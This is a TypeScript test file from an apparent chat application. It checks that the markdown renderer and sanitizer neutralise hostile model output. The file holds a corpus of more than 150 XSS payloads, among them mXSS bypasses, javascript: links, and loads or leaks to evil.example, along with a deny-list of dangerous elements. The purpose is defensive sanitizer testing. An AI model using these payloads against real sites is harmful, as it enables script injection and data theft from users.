// Hostile model output: an XSS corpus (classics from the OWASP and PortSwigger cheat sheets, the
// DOMPurify mXSS bypasses, markdown-specific link/image/fence tricks) rendered the way the chat
// renders answers. Each case must come out inert:
//   - only the allow-listed tags and attributes (no script/iframe/object/embed/style/link/meta/
//     base/form/img/svg/math, no on* handlers, no style, no id/name for DOM clobbering);
//   - every href is http(s) or mailto and opens with target=_blank rel="noopener noreferrer";
//   - nothing that loads anything: no src/srcset/srcdoc/data/poster/background/action/ping, no CSS;
//   - and a canary: every element gets the events that fire handlers (error, load, click, focus,
//     toggle, …) and no payload may call alert()/window.__xss.
// The corpus goes through three doors: renderMarkdownInto (what the chat calls), the sanitizer on
// its own with the payload as raw HTML (as if marked ever let HTML through), and the real chat
// view, stored and streaming.

import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import type { Conversation, ModelStatus, StoredMessage } from "./api";

vi.mock("./assets", () => ({ imageSrc: (f: string) => `smolvlm-image://localhost/${encodeURIComponent(f)}` }));
vi.mock("./api", async (importOriginal) => {
  const real = await importOriginal<typeof import("./api")>();
  return { ...real, api: { pickImages: vi.fn(async () => []) } };
});

const { renderMarkdown, renderMarkdownInto, sanitizeAnswerHtml } = await import("./markdown");
const { createChatView } = await import("./chat-view");
const { createStore, initialState } = await import("./state");
const { newLiveAnswer, applyStreamEvent } = await import("./stream");
type AppState = import("./state").AppState;

// ---- the corpus ------------------------------------------------------------------------------

const B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="; // <script>alert(1)</script>
const B64_SVG = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="; // <svg onload=alert(1)>
const NUL = "\u0000";

/** [name, model output]. Payloads call alert() or window.__xss(), both watched. */
const CORPUS: ReadonlyArray<readonly [string, string]> = [
  // Script
  ["script tag", "<script>alert(1)</script>"],
  ["remote script", '<script src="https://evil.example/x.js"></script>'],
  ["script, upper case", "<SCRIPT>alert(1)</SCRIPT>"],
  ["split script", "<<script>script>alert(1)<</script>/script>"],
  ["nested script", "<scr<script>ipt>alert(1)</scr</script>ipt>"],
  ["script in a module", '<script type="module">window.__xss()</script>'],
  // Event handlers
  ["img onerror", "<img src=x onerror=alert(1)>"],
  ["img onerror, slashes", "<img/src=x/onerror=alert(1)>"],
  ["img eval(src)", "<img src=x:alert(alt) onerror=eval(src) alt=0>"],
  ["img quote confusion", '<img """><script>alert(1)</script>">'],
  ["img javascript src", '<IMG SRC="javascript:alert(1)">'],
  ["img backtick", "<img src=`x` onerror=`alert(1)`>"],
  ["img, unclosed", "<img src=x onerror=alert(1)//"],
  ["body onload", "<body onload=alert(1)>"],
  ["details ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"],
  ["details ontoggle, markdown inside", "<details open ontoggle=window.__xss()>\n\n**md inside**\n\n</details>"],
  ["input autofocus", "<input autofocus onfocus=alert(1)>"],
  ["keygen autofocus", "<keygen autofocus onfocus=alert(1)>"],
  ["select autofocus", "<select autofocus onfocus=alert(1)></select>"],
  ["textarea autofocus", "<textarea autofocus onfocus=alert(1)></textarea>"],
  ["video source onerror", "<video><source onerror=alert(1)></video>"],
  ["audio onerror", "<audio src=x onerror=alert(1)>"],
  ["marquee onstart", "<marquee onstart=alert(1)>x</marquee>"],
  ["div handlers", '<div onclick="alert(1)" onmouseover="alert(2)" onpointerdown="alert(3)">hover</div>'],
  ["custom element handler", "<x onclick=alert(1)>click me</x>"],
  ["animation handler", "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>x</b>"],
  ["frameset onload", "<frameset onload=alert(1)>"],
  ["handler, null byte", `<img src=x${NUL}onerror=alert(1)>`],
  ["script, null byte", `<scr${NUL}ipt>alert(1)</scr${NUL}ipt>`],
  ["handler, form feed", "<img src=x\fonerror=alert(1)>"],
  // SVG
  ["svg onload", "<svg onload=alert(1)>"],
  ["svg/onload", "<svg/onload=alert(1)>"],
  ["svg script", "<svg><script>alert(1)</script></svg>"],
  ["svg script, xlink", '<svg><script xlink:href="data:,alert(1)"></script></svg>'],
  ["svg a xlink:href", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'],
  ["svg a href", '<svg><a href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'],
  ["svg animate href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>"],
  ["svg set handler", "<svg><set attributeName=onmouseover to=alert(1) /></svg>"],
  ["svg animate onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"],
  ["svg style import", "<svg><style>@import url(https://evil.example/x.css);</style></svg>"],
  ["svg style, img in it", "<svg><style><img src=x onerror=alert(1)></style></svg>"],
  ["svg foreignObject iframe", '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>'],
  ["svg use data", `<svg><use href="data:image/svg+xml;base64,${B64_SVG}#x"/></svg>`],
  ["svg image remote", '<svg><image href="https://evil.example/t.png"/></svg>'],
  ["svg CDATA", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"],
  // MathML and mXSS
  ["math xlink:href", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
  ["math href", '<math href="javascript:alert(1)">CLICK</math>'],
  ["mXSS mglyph style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"],
  ["mXSS form math", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"],
  ["mXSS annotation-xml", '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>'],
  ["mXSS noscript title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ["mXSS svg p style", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"],
  ["mXSS select noembed", "<select><noembed></select><img src=x onerror=alert(1)></noembed>"],
  ["style comment breakout", "<style><!--</style><img src=x onerror=alert(1)>-->"],
  ["comment breakout", "<!--><img src=x onerror=alert(1)>-->"],
  ["CDATA breakout", "<![CDATA[><img src=x onerror=alert(1)>]]>"],
  ["processing instruction", '<?xml-stylesheet href="https://evil.example/x.xsl"?><b>x</b>'],
  ["template", "<template><img src=x onerror=alert(1)></template>"],
  ["template shadowroot", '<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>'],
  ["textarea rcdata", "<textarea><img src=x onerror=alert(1)></textarea>"],
  ["title rcdata", "<title><img src=x onerror=alert(1)></title>"],
  ["xmp", "<xmp><img src=x onerror=alert(1)></xmp>"],
  ["iframe in noframes", "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>"],
  // Frames and plugins
  ["iframe remote", '<iframe src="https://evil.example"></iframe>'],
  ["iframe javascript", '<iframe src="javascript:alert(1)"></iframe>'],
  ["iframe srcdoc", '<iframe srcdoc="&lt;script&gt;parent.__xss()&lt;/script&gt;"></iframe>'],
  ["object javascript", '<object data="javascript:alert(1)"></object>'],
  ["object data html", `<object data="data:text/html;base64,${B64_SCRIPT}"></object>`],
  ["embed", '<embed src="data:text/html,<script>alert(1)</script>">'],
  ["embed svg", `<embed src="data:image/svg+xml;base64,${B64_SVG}">`],
  ["portal", '<portal src="https://evil.example"></portal>'],
  ["frameset frame", '<frameset><frame src="javascript:alert(1)"></frameset>'],
  // Links in HTML
  ["a javascript", '<a href="javascript:alert(1)">x</a>'],
  ["a javascript, mixed case", '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ["a javascript, leading space", '<a href=" javascript:alert(1)">x</a>'],
  ["a javascript, tab entity", '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ["a javascript, newline entity", '<a href="jav&#x0A;ascript:alert(1)">x</a>'],
  ["a javascript, decimal entities", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  ["a javascript, padded entities", '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>'],
  ["a javascript, &colon;", '<a href="&#x6A;avascript&colon;alert(1)">x</a>'],
  ["a javascript, null byte", `<a href="${NUL}javascript:alert(1)">x</a>`],
  ["a javascript, control char", '<a href="&#14;javascript:alert(1)">x</a>'],
  ["a data html", `<a href="data:text/html;base64,${B64_SCRIPT}">x</a>`],
  ["a vbscript", '<a href="vbscript:msgbox(1)">x</a>'],
  ["a file", '<a href="file:///etc/passwd">x</a>'],
  ["a protocol-relative", '<a href="//evil.example/x">x</a>'],
  ["a safe href with handler", '<a href="https://ok.example" onclick="alert(1)">x</a>'],
  ["a overlay style", '<a href="https://ok.example" style="position:fixed;inset:0;z-index:99">x</a>'],
  ["a ping", '<a href="https://ok.example" ping="https://evil.example/ping">x</a>'],
  ["a target self", '<a href="https://ok.example" target="_self">x</a>'],
  ["a rel opener", '<a href="https://ok.example" target="_blank" rel="opener">x</a>'],
  ["a download", '<a href="https://ok.example/x.exe" download>x</a>'],
  ["DOM clobbering", '<a id="__proto__" name="alert">x</a><form name="body"></form><img name="getElementById">'],
  ["button formaction", '<button formaction="javascript:alert(1)">x</button>'],
  ["isindex", "<isindex action=javascript:alert(1) type=image>"],
  // CSS and remote loads
  ["style attr url", '<div style="background:url(https://evil.example/t.png)">x</div>'],
  ["style attr expression", '<div style="width:expression(alert(1))">x</div>'],
  ["style attr behavior", '<div style="behavior:url(x.htc);-moz-binding:url(https://evil.example/x.xml#x)">x</div>'],
  ["style element", "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/b.png)}</style>"],
  ["style, exfiltration selector", "<style>input[value^=a]{background:url(https://evil.example/a)}</style>"],
  ["link stylesheet", '<link rel=stylesheet href="https://evil.example/x.css">'],
  ["link import", '<link rel=import href="https://evil.example/x.html">'],
  ["link prefetch", '<link rel=prefetch href="https://evil.example/leak">'],
  ["meta refresh javascript", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ["meta refresh remote", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ["meta CSP override", "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'unsafe-inline'\">"],
  ["base href", '<base href="https://evil.example/">'],
  ["form action", '<form action="https://evil.example"><input name=q><button>Go</button></form>'],
  ["img remote", '<img src="https://evil.example/t.png">'],
  ["img srcset", '<img srcset="https://evil.example/a.png 1x">'],
  ["picture source", '<picture><source srcset="https://evil.example/a.png"><img alt=x></picture>'],
  ["video poster", '<video poster="https://evil.example/p.png"></video>'],
  ["table background", '<table background="https://evil.example/t.png"><tr><td>x</td></tr></table>'],
  ["body background", '<body background="javascript:alert(1)">'],
  ["blockquote cite", '<blockquote cite="javascript:alert(1)">q</blockquote>'],
  ["html block across blank lines", "<div>\n\n<img src=x onerror=alert(1)>\n\n</div>"],
  ["nested unclosed", "<p>unclosed <b><i>nest <a href='javascript:alert(1)'>x <img src=x onerror=alert(1)"],
  // Markdown links
  ["md link javascript", "[x](javascript:alert(1))"],
  ["md link JAVASCRIPT", "[x](JAVASCRIPT:alert(1))"],
  ["md link javascript, spaces", "[x](  javascript:alert(1)  )"],
  ["md link javascript, angle brackets", "[x](<javascript:alert(1)>)"],
  ["md link javascript, &#58;", "[x](javascript&#58;alert(1))"],
  ["md link javascript, &#106;", "[x](&#106;avascript:alert(1))"],
  ["md link javascript, tab entity", "[x](jav&#x09;ascript:alert(1))"],
  ["md link javascript, percent", "[x](java%0ascript:alert(1))"],
  ["md link javascript, backslash", "[x](javascript\\:alert(1))"],
  ["md link data", `[x](data:text/html;base64,${B64_SCRIPT})`],
  ["md link vbscript", "[x](vbscript:msgbox(1))"],
  ["md link file", "[x](file:///etc/passwd)"],
  ["md link protocol-relative", "[x](//evil.example)"],
  ["md link title breakout", '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")'],
  ["md link url breakout, double quote", '[x](https://ok.example"onmouseover="alert(1))'],
  ["md link url breakout, single quote", "[x](https://ok.example'onmouseover='alert(1))"],
  ["md link text html", "[<img src=x onerror=alert(1)>](https://ok.example)"],
  ["md link nested image", "[![x](https://evil.example/i.png)](javascript:alert(1))"],
  ["md reference link", "[x][r]\n\n[r]: javascript:alert(1)"],
  ["md reference link, angle brackets and title", '[x][r]\n\n[r]: <javascript:alert(1)> "t"'],
  ["md reference link, collapsed", "[r][]\n\n[r]: data:text/html,<script>alert(1)</script>"],
  ["md autolink javascript", "<javascript:alert(1)>"],
  ["md autolink data", `<data:text/html;base64,${B64_SCRIPT}>`],
  ["md autolink vbscript", "<vbscript:msgbox(1)>"],
  ["md autolink with quote", '<https://ok.example/"onmouseover="alert(1)>'],
  ["gfm autolink with quote", 'www.ok.example/"onmouseover="alert(1)'],
  ["gfm bare javascript", "javascript:alert(1)"],
  // Markdown images (never loaded)
  ["md image javascript", "![x](javascript:alert(1))"],
  ["md image remote", "![x](https://evil.example/track.png)"],
  ["md image data svg", `![x](data:image/svg+xml;base64,${B64_SVG})`],
  ["md image alt breakout", '![x" onerror="alert(1)](x)'],
  ["md image alt html", "![<img src=x onerror=alert(1)>](https://evil.example/x.png)"],
  ["md image reference", "![x][img]\n\n[img]: https://evil.example/t.png"],
  // Code must stay text
  ["fence lang breakout", '```"><img src=x onerror=alert(1)>\nx\n```'],
  ["fence lang handler", "```js onload=alert(1) class=x\nx\n```"],
  ["fence lang javascript", "```javascript:alert(1)\nx\n```"],
  ["fence html", "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```"],
  ["tilde fence", "~~~\n<svg onload=alert(1)>\n~~~"],
  ["unclosed fence", "```\n<img src=x onerror=alert(1)>"],
  ["inline code", "`<img src=x onerror=alert(1)>`"],
  ["indented code", "    <script>alert(1)</script>"],
  // HTML inside markdown structure
  ["heading", "# <img src=x onerror=alert(1)>"],
  ["blockquote", "> <script>alert(1)</script>\n> [x](javascript:alert(1))"],
  ["list", "- <svg onload=alert(1)>\n- [x](javascript:alert(1))"],
  ["table cells", "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |"],
  ["task list", "- [x] <input onfocus=alert(1) autofocus>"],
  ["emphasis around html", "**<img src=x onerror=alert(1)>** _<a href=javascript:alert(1)>x</a>_"],
  ["entity-encoded html", "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;"],
  ["md link with null byte", `[x](java${NUL}script:alert(1))`],
  ["md link, html comment after", "[x](https://ok.example)<!-- <img src=x onerror=alert(1)> -->"],
];

// ---- checks ----------------------------------------------------------------------------------

const XHTML = "http://www.w3.org/1999/xhtml";
/** What markdown.ts allows, plus the code-block header (div, button) and the streaming caret. */
const TAGS = new Set([
  "a", "b", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i",
  "kbd", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "sup", "table", "tbody", "td", "tfoot",
  "th", "thead", "tr", "ul", "div", "button",
]);
const ATTRS = new Set(["href", "title", "class", "start", "align", "rel", "target", "type", "data-testid", "aria-label", "aria-hidden"]);
const CLASS = /^(?:language-[\w+#.-]{1,32}|md-image|code-block|code-head|code-lang|code-copy|caret)$/;
/** Events that fire inline handlers an attacker could plant. */
const EVENTS = ["error", "load", "click", "dblclick", "mouseover", "mouseenter", "mousedown", "pointerdown",
  "focus", "focusin", "blur", "input", "change", "toggle", "animationstart", "transitionend", "submit",
  "begin", "start", "copy", "keydown"];

function assertInert(root: Element, label: string): void {
  for (const el of Array.from(root.querySelectorAll("*"))) {
    const tag = el.localName;
    expect(el.namespaceURI, `${label}: <${tag}> is not HTML`).toBe(XHTML);
    expect(TAGS.has(tag), `${label}: <${tag}> is not allowed`).toBe(true);
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase();
      expect(name.startsWith("on"), `${label}: <${tag} ${name}>`).toBe(false);
      expect(ATTRS.has(name), `${label}: <${tag}> has ${name}="${attr.value}"`).toBe(true);
    }
    for (const c of Array.from(el.classList)) expect(c, `${label}: class on <${tag}>`).toMatch(CLASS);
    if (el.hasAttribute("href")) {
      expect(tag, `${label}: href on <${tag}>`).toBe("a");
      const href = el.getAttribute("href") ?? "";
      expect(href, `${label}: unsafe href`).toMatch(/^(?:https?:|mailto:)/i);
      expect(["http:", "https:", "mailto:"], `${label}: ${href}`).toContain(new URL(href).protocol);
      expect(el.getAttribute("target"), `${label}: target`).toBe("_blank");
      expect((el.getAttribute("rel") ?? "").split(/\s+/), `${label}: rel`).toEqual(expect.arrayContaining(["noopener", "noreferrer"]));
    }
    expect(el.hasAttribute("target") && !el.hasAttribute("href"), `${label}: target without href`).toBe(false);
  }
  // Belt and braces: the same thing said as a deny-list.
  expect(root.querySelectorAll(
    "script, iframe, frame, frameset, object, embed, portal, applet, style, link, meta, base, form, input, button[formaction], " +
    "textarea, select, img, image, picture, source, video, audio, svg, math, template, noscript, [style], [src], [srcset], [srcdoc], " +
    "[data], [poster], [background], [action], [formaction], [ping], [id], [name], [xlink\\:href]",
  ).length, `${label}: forbidden element or attribute`).toBe(0);
}

/** Fires every handler-triggering event on every element (handlers on detached nodes run in jsdom). */
function fireEverything(root: Element): void {
  for (const el of [root, ...Array.from(root.querySelectorAll("*"))]) {
    for (const type of EVENTS) el.dispatchEvent(new Event(type, { bubbles: false }));
    if (el instanceof HTMLElement) el.focus();
  }
}

/** jsdom runs a javascript: URL that a click navigates to some tasks later: wait for it (or for
 * `ms`). */
async function settle(ms = 0, until: () => boolean = () => false): Promise<void> {
  const end = Date.now() + ms;
  do await new Promise((r) => setTimeout(r, 5)); while (!until() && Date.now() < end);
}

type Canary = ReturnType<typeof vi.fn>;
let canary: Canary;

/** The windows a payload could reach: the test's global and jsdom's own, the global that inline
 * handlers and javascript: URLs run in (Vitest exposes the JSDOM instance as `jsdom`). */
function windows(): Array<Window & Record<string, unknown>> {
  const inner = (globalThis as { jsdom?: { window: Window } }).jsdom?.window;
  return [window, ...(inner && inner !== window ? [inner] : [])] as Array<Window & Record<string, unknown>>;
}

beforeEach(() => {
  canary = vi.fn();
  for (const w of windows()) {
    w.__xss = canary;
    for (const name of ["alert", "confirm", "prompt", "print"] as const) vi.spyOn(w, name).mockImplementation(canary as never);
  }
});

afterEach(() => {
  expect(canary, "a payload ran").not.toHaveBeenCalled();
  for (const w of windows()) delete w.__xss;
});

function renderChat(src: string): HTMLElement {
  const el = document.createElement("div");
  document.body.append(el);
  renderMarkdownInto(el, src, () => undefined);
  return el;
}

function renderRaw(html: string): HTMLElement {
  const el = document.createElement("div");
  document.body.append(el);
  el.innerHTML = sanitizeAnswerHtml(html);
  return el;
}

afterEach(() => document.body.replaceChildren());

// ---- tests -----------------------------------------------------------------------------------

describe("the XSS corpus itself", () => {
  it("has a name per case and enough cases", () => {
    expect(new Set(CORPUS.map(([n]) => n)).size).toBe(CORPUS.length);
    expect(CORPUS.length).toBeGreaterThan(150);
  });

  it("the canary sees a handler and a javascript: link that are not sanitized (so the checks below can fail)", async () => {
    const el = document.createElement("div");
    expect(windows().length, "no jsdom window to watch").toBe(2);
    el.innerHTML = '<img src="x" onerror="alert(1)"><b onclick="window.__xss()">x</b><a href="javascript:__xss()">j</a>';
    document.body.append(el);
    fireEverything(el);
    expect(canary).toHaveBeenCalledTimes(2);
    el.querySelector("a")?.click();
    await settle(2000, () => canary.mock.calls.length >= 3);
    expect(canary).toHaveBeenCalledTimes(3);
    canary.mockClear();
    expect(() => assertInert(el, "unsanitized")).toThrow();
  });
});

describe("hostile model output through renderMarkdownInto (the chat's renderer)", () => {
  for (const [name, src] of CORPUS) {
    it(name, async () => {
      const el = renderChat(src);
      assertInert(el, name);
      fireEverything(el);
      for (const a of Array.from(el.querySelectorAll("a"))) a.click();
      await settle();
    });
  }
});

describe("hostile HTML through the sanitizer alone (if marked ever let HTML through)", () => {
  for (const [name, src] of CORPUS) {
    it(name, async () => {
      const el = renderRaw(src);
      assertInert(el, name);
      fireEverything(el);
      for (const a of Array.from(el.querySelectorAll("a"))) a.click();
      await settle();
    });
  }

  it("keeps allowed markup and safe links", () => {
    const el = renderRaw('<p><b>bold</b> <a href="https://ok.example/a?b=1">ok</a> <a href="mailto:a@b.example">mail</a></p>');
    expect(el.querySelector("b")?.textContent).toBe("bold");
    expect(Array.from(el.querySelectorAll("a")).map((a) => a.getAttribute("href"))).toEqual(["https://ok.example/a?b=1", "mailto:a@b.example"]);
    assertInert(el, "benign html");
  });

  it("keeps list starts and column alignment, and only as numbers and left/right/center", () => {
    const el = renderRaw('<ol start="7"><li>a</li></ol><ol start="javascript:alert(1)"><li>b</li></ol>' +
      '<table><tr><td align="right">1</td><td align="x onmouseover=alert(1)">2</td></tr></table>');
    expect(Array.from(el.querySelectorAll("ol")).map((o) => o.getAttribute("start"))).toEqual(["7", null]);
    expect(Array.from(el.querySelectorAll("td")).map((o) => o.getAttribute("align"))).toEqual(["right", null]);
    assertInert(el, "start/align");
  });

  it("keeps the text of a dropped unsafe link", () => {
    const el = renderRaw('<a href="javascript:alert(1)">the text</a>');
    expect(el.querySelector("[href]")).toBeNull();
    expect(el.textContent).toBe("the text");
  });
});

describe("hostile markdown keeps what the model said, as text", () => {
  it("shows raw HTML as text", () => {
    const el = renderChat('<img src=x onerror=alert(1)> and <svg onload=alert(1)>');
    expect(el.textContent).toContain("<img src=x onerror=alert(1)>");
    expect(el.textContent).toContain("<svg onload=alert(1)>");
  });

  it("keeps HTML in code blocks as code text", () => {
    const el = renderChat("```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```");
    expect(el.querySelector("pre code")?.textContent).toBe("<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n");
    expect(el.querySelector(".code-lang")?.textContent).toBe("html");
    expect(el.querySelector("pre code")?.className).toBe("language-html");
  });

  it("does not let a fence's language string out of the class attribute", () => {
    const el = renderChat('```"><img src=x onerror=alert(1)>\nbody\n```');
    expect(el.querySelector("pre code")?.textContent).toBe("body\n");
    expect(el.querySelector(".code-lang")?.textContent).toBe("code");
    expect(el.querySelectorAll("img").length).toBe(0);
  });

  it("keeps the text of links whose URL is dropped", () => {
    const el = renderChat("[click here](javascript:alert(1)) and [ref][r]\n\n[r]: data:text/html,x");
    expect(el.querySelector("[href]")).toBeNull();
    expect(el.textContent).toContain("click here");
    expect(el.textContent).toContain("ref");
  });

  it("shows an image as its alt text, never its URL", () => {
    const el = renderChat("![a cat](https://evil.example/cat.png) ![](javascript:alert(1))");
    expect(Array.from(el.querySelectorAll(".md-image")).map((s) => s.textContent)).toEqual(["a cat", "image"]);
    expect(el.innerHTML).not.toContain("evil.example");
    expect(el.innerHTML).not.toContain("javascript");
  });
});

describe("benign markdown still renders", () => {
  it("bold, emphasis, strikethrough, inline code", () => {
    const el = renderChat("**bold** *em* ~~gone~~ `x < y`");
    expect(el.querySelector("strong")?.textContent).toBe("bold");
    expect(el.querySelector("em")?.textContent).toBe("em");
    expect(el.querySelector("del")?.textContent).toBe("gone");
    expect(el.querySelector("code")?.textContent).toBe("x < y");
    assertInert(el, "inline");
  });

  it("links: inline, reference, autolink, bare www, mailto", () => {
    const el = renderChat("[docs](https://ok.example/docs \"Docs\") [ref][r] <https://ok.example/auto> www.ok.example <a@b.example>\n\n[r]: http://ok.example/ref");
    const links = Array.from(el.querySelectorAll("a"));
    expect(links.map((a) => a.getAttribute("href"))).toEqual([
      "https://ok.example/docs", "http://ok.example/ref", "https://ok.example/auto", "http://www.ok.example", "mailto:a@b.example",
    ]);
    expect(links[0]?.getAttribute("title")).toBe("Docs");
    for (const a of links) expect(a.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    assertInert(el, "links");
  });

  it("a table, a list, a heading, a quote and a code block", () => {
    const el = renderChat("# Title\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n3. three\n4. four\n\n> quoted\n\n```rust\nfn main() {}\n```");
    expect(el.querySelector("h1")?.textContent).toBe("Title");
    expect(Array.from(el.querySelectorAll("td")).map((td) => td.textContent)).toEqual(["1", "2"]);
    expect(el.querySelector("th")?.getAttribute("align")).toBe("left");
    expect(el.querySelector("ol")?.getAttribute("start")).toBe("3");
    expect(el.querySelector("blockquote")?.textContent?.trim()).toBe("quoted");
    expect(el.querySelector("pre code.language-rust")?.textContent).toBe("fn main() {}\n");
    expect(el.querySelectorAll('[data-testid="code-copy"]').length).toBe(1);
    assertInert(el, "blocks");
  });
});

// ---- through the real chat view --------------------------------------------------------------

const ready: ModelStatus = {
  state: "ready", loading: null, generationId: null, restarts: 0, lastError: null,
  model: { path: "/m", name: "SmolVLM-256M-Instruct", device: "cpu", kernels: "avx512", threads: 4, deviceNotice: null, hasVision: true, contextLength: 8192, loadS: 1.2 },
};

function msg(id: string, role: "user" | "assistant", text: string, extra: Partial<StoredMessage> = {}): StoredMessage {
  return { id, role, text, images: [], status: "complete", createdMs: 1, ...extra };
}

const chat = {
  refreshList: vi.fn(), open: vi.fn(), newConversation: vi.fn(async () => undefined), send: vi.fn(async () => true),
  stop: vi.fn(async () => undefined), regenerate: vi.fn(async () => true), editAndResend: vi.fn(async () => true),
  rename: vi.fn(async () => undefined), remove: vi.fn(async () => undefined),
};

const ALL = CORPUS.map(([, src]) => src).join("\n\n");

function answerTexts(root: Element): Element[] {
  return Array.from(root.querySelectorAll('[data-role="assistant"] [data-testid="message-text"]'));
}

describe("hostile answers in the chat view", () => {
  it("a stored answer holding the whole corpus is inert", () => {
    const conversation: Conversation = {
      schemaVersion: 1, id: "c1", title: "<img src=x onerror=alert(1)>", createdMs: 1, updatedMs: 2,
      messages: [msg("u1", "user", "<svg onload=alert(1)>"), msg("a1", "assistant", ALL)],
    };
    const store = createStore<AppState>({ ...initialState(), status: ready, currentId: "c1", conversation });
    const el = createChatView({ store, chat, longestEdge: () => undefined, emptyState: () => document.createElement("div") });
    document.body.append(el);
    const [text] = answerTexts(el);
    expect(text).toBeDefined();
    assertInert(text!, "stored answer");
    fireEverything(text!);
    expect(el.querySelector('[data-role="user"] [data-testid="message-text"]')?.textContent).toBe("<svg onload=alert(1)>");
    expect(el.querySelectorAll('[data-role="user"] svg:not(.icon)').length).toBe(0);
  });

  it("the corpus streamed in small pieces is inert at every frame and at the end", async () => {
    let live = newLiveAnswer("c1", Date.now() - 1000);
    const store = createStore<AppState>({
      ...initialState(), status: { ...ready, state: "generating" as const }, currentId: "c1",
      conversation: { schemaVersion: 1, id: "c1", title: "t", createdMs: 1, updatedMs: 2, messages: [] }, live, pendingUser: msg("p", "user", "hi"),
    });
    const el = createChatView({ store, chat, longestEdge: () => undefined, emptyState: () => document.createElement("div") });
    document.body.append(el);
    const frame = () => new Promise((r) => requestAnimationFrame(r));
    // Pieces of varying size, so cuts land inside tags, entities, URLs and fences.
    let frames = 0;
    for (let i = 0, step = 7; i < ALL.length; i += step, step = 7 + ((step * 13) % 41)) {
      live = applyStreamEvent(live, { type: "token", text: ALL.slice(i, i + step), count: 1 }, Date.now());
      store.set({ live });
      if (++frames % 3 === 0) {
        await frame();
        for (const t of answerTexts(el)) assertInert(t, `frame ${frames}`);
      }
    }
    live = applyStreamEvent(live, { type: "done", stopReason: "eos", promptTokens: 3, imageTokens: 0, generatedTokens: frames,
      timings: { visionS: 0, prefillS: 0.1, decodeS: 0.8, decodeTokensPerS: 10, firstTokenS: 0.1, totalS: 1 } }, Date.now());
    store.set({ live });
    await frame();
    const texts = answerTexts(el);
    expect(texts.length).toBe(1);
    expect(texts[0]!.textContent).toContain("<script>alert(1)</script>");
    assertInert(texts[0]!, "finished stream");
    fireEverything(texts[0]!);
    expect(renderMarkdown(ALL)).not.toMatch(/<(?:script|img|svg|iframe|style)\b/i);
  });
});

describe("after the corpus", () => {
  it("no payload ran late (a queued javascript: navigation, a timer)", async () => {
    await settle(200);
  });
});
